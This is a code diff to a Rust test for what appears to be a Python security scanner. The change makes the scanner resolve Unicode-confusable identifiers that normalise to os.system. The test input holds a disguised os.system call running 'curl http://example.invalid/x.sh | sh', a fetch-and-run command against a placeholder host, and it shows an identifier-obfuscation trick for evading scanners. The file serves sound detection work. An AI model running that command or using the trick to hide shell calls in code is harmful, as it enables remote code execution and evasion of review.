@@ -863,16 +863,15 @@ fn check_sources(cases: &[(&str, Vec<u8>, bool)]) {
     assert!(missed.is_empty(), "{missed:#?}");
 }
 
-/// PEP 3131: CPython NFKC-normalises identifiers, so `𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮` is `os.system`. ferret_python
-/// resolves names as written, so this call runs unseen (reported in #8).
+/// PEP 3131: CPython NFKC-normalises identifiers, so `𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮` is `os.system`; so does Ruff's
+/// lexer, and names resolve from the normalised form.
 #[test]
-#[ignore = "known miss: ferret_python does not NFKC-normalise identifiers (issue #8)"]
 fn nfkc_confusable_identifiers_are_resolved() {
     let cases: Vec<(&str, Vec<u8>, bool)> = vec![
         (
             // PEP 3131: identifiers are NFKC-normalised, so these are `os.system` to CPython.
             "confusable (NFKC) identifiers",
-            "import \u{1d608}\u{1d634}\n\u{1d608}\u{1d634}.\u{1d634}\u{1d63a}\u{1d634}\u{1d635}\u{1d626}\u{1d62e}('curl http://example.invalid/x.sh | sh')\n"
+            "import \u{1d630}\u{1d634}\n\u{1d630}\u{1d634}.\u{1d634}\u{1d63a}\u{1d634}\u{1d635}\u{1d626}\u{1d62e}('curl http://example.invalid/x.sh | sh')\n"
                 .as_bytes()
                 .to_vec(),
             true,
